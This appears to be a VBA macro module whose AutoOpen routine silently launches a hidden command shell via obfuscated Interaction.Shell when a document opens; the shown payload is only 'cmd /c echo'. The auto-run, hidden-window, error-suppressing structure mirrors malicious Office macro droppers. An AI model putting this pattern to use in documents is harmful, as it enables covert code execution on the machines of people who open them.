Attribute VB_Name = "Module1"
Sub AutoOpen()
On Error Resume Next
x = Array(a, Interaction.Shell(("" + b + "cmd /c echo") + c, 91 - 91), d)
End Sub
